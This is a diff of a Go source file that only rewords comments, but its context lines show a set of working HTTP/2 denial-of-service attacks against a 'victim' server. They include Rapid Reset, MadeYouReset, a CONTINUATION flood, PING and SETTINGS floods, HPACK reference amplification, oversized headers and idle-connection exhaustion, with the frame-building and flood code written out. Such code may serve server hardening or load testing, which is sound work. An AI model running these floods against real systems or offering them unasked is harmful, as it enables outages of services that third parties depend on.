@@ -13,7 +13,7 @@ import (
 	"golang.org/x/net/http2"
 )
 
-// trivial is a path that costs a server next to nothing, whether it is there or not.
+// trivial is a path that costs a server almost nothing, whether it exists or not.
 const trivial = "/healthz"
 
 // rapidReset opens streams and resets each at once (CVE-2023-44487).
@@ -27,7 +27,7 @@ func rapidReset(ctx context.Context, v *victim) {
 	})
 }
 
-// madeYouReset opens streams and makes the server reset each, by a WINDOW_UPDATE of zero (CVE-2025-8671).
+// madeYouReset opens streams and makes the server reset each, with a WINDOW_UPDATE of zero (CVE-2025-8671).
 func madeYouReset(ctx context.Context, v *victim) {
 	v.flood(ctx, func(f *frames) error {
 		id, err := f.request(false, "POST", trivial)
@@ -38,7 +38,7 @@ func madeYouReset(ctx context.Context, v *victim) {
 	})
 }
 
-// flood sends frames as fast as the connection takes them, and reads what comes.
+// flood sends frames as fast as the connection accepts them, and reads what the server sends.
 func (v *victim) flood(ctx context.Context, next func(f *frames) error) {
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx)
@@ -55,9 +55,9 @@ func (v *victim) flood(ctx context.Context, next func(f *frames) error) {
 	})
 }
 
-// continuation begins a head that never ends, in fragments of a size (CVE-2024-27316).
+// continuation begins a head that never ends, in fragments of about size bytes (CVE-2024-27316).
 func continuation(size int) func(context.Context, *victim) {
-	// Headers that are not kept in the table of HPACK: a name of a byte, and a value of five.
+	// These fields are not added to HPACK's table: a name of one byte, and a value of five.
 	one := append([]byte{0, 1, 'a', 5}, "value"...)
 	fragment := bytes.Repeat(one, size/len(one))
 	return func(ctx context.Context, v *victim) {
@@ -83,7 +83,7 @@ func continuation(size int) func(context.Context, *victim) {
 	}
 }
 
-// pings floods with PINGs, each of which the server has to answer (CVE-2019-9512).
+// pings floods with PINGs, each of which the server must answer (CVE-2019-9512).
 func pings(ctx context.Context, v *victim) {
 	v.flood(ctx, func(f *frames) error {
 		return f.queue(func() error { return f.WritePing(false, [8]byte{}) })
@@ -107,17 +107,18 @@ func pingsUnread(ctx context.Context, v *victim) {
 	})
 }
 
-// settings floods with SETTINGS, each of which the server has to acknowledge (CVE-2019-9515).
+// settings floods with SETTINGS, each of which the server must acknowledge (CVE-2019-9515).
 func settings(ctx context.Context, v *victim) {
 	v.flood(ctx, func(f *frames) error {
 		return f.queue(func() error { return f.WriteSettings(http2.Setting{ID: http2.SettingEnablePush}) })
 	})
 }
 
-// hpackReferences puts a large header into the table of HPACK once, and then refers to it thousands of times in each head, by a byte.
+// hpackReferences adds a large field to HPACK's table once, and then refers to it thousands of times in each head, with
+// one byte each.
 func hpackReferences(ctx context.Context, v *victim) {
 	large := strings.Repeat("v", 3900)
-	const newest = 0x80 | 62 // the entry that was put in last
+	const newest = 0x80 | 62 // the entry that was added last
 	references := bytes.Repeat([]byte{newest}, 15<<10)
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx)
@@ -132,7 +133,7 @@ func hpackReferences(ctx context.Context, v *victim) {
 		for {
 			id := f.next()
 			if err := f.queue(func() error {
-				// GET, http and / of the static table; then the references.
+				// GET, http and / from the static table; then the references.
 				block := append([]byte{0x82, 0x86, 0x84}, references...)
 				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
 			}); err != nil {
@@ -142,7 +143,7 @@ func hpackReferences(ctx context.Context, v *victim) {
 	})
 }
 
-// hugeHeads sends heads of many megabytes, which no table shortens, over HTTP/2 and over HTTP/1.1.
+// hugeHeads sends heads of many megabytes that HPACK cannot compress, over HTTP/2 and over HTTP/1.1.
 func hugeHeads(ctx context.Context, v *victim) {
 	line := strings.Repeat("h", 60<<10)
 	const size = 16_000
@@ -173,7 +174,7 @@ func hugeHeads(ctx context.Context, v *victim) {
 	})
 }
 
-// idle opens connections and does nothing with them.
+// idle opens connections and sends nothing more.
 func idle(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx)
@@ -185,7 +186,7 @@ func idle(ctx context.Context, v *victim) {
 	})
 }
 
-// idleHeads opens connections and begins a frame of HEADERS on each.
+// idleHeads opens connections and begins a HEADERS frame on each.
 func idleHeads(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx)
@@ -193,7 +194,7 @@ func idleHeads(ctx context.Context, v *victim) {
 			return err
 		}
 		defer f.Close()
-		const head = "\x00\x3f\x00\x01\x05\x00\x00\x00\x01" // 16,128 bytes of HEADERS for stream 1, which do not come
+		const head = "\x00\x3f\x00\x01\x05\x00\x00\x00\x01" // announces 16,128 bytes of HEADERS for stream 1, which are never sent
 		if err := f.send(func() error { _, err := f.buffer.WriteString(head); return err }); err != nil {
 			return err
 		}
@@ -201,7 +202,7 @@ func idleHeads(ctx context.Context, v *victim) {
 	})
 }
 
-// held keeps the connection until the attack ends or the server closes it.
+// held keeps the connection open until the attack ends or the server closes it.
 func (f *frames) held(ctx context.Context) error {
 	select {
 	case <-f.answer():
@@ -211,7 +212,7 @@ func (f *frames) held(ctx context.Context) error {
 	}
 }
 
-// endless opens as many streams that never end as a connection may have.
+// endless opens as many unfinished streams as a connection may have.
 func endless(ctx context.Context, v *victim) {
 	v.each(ctx, func(ctx context.Context) error {
 		f, err := v.http2(ctx)
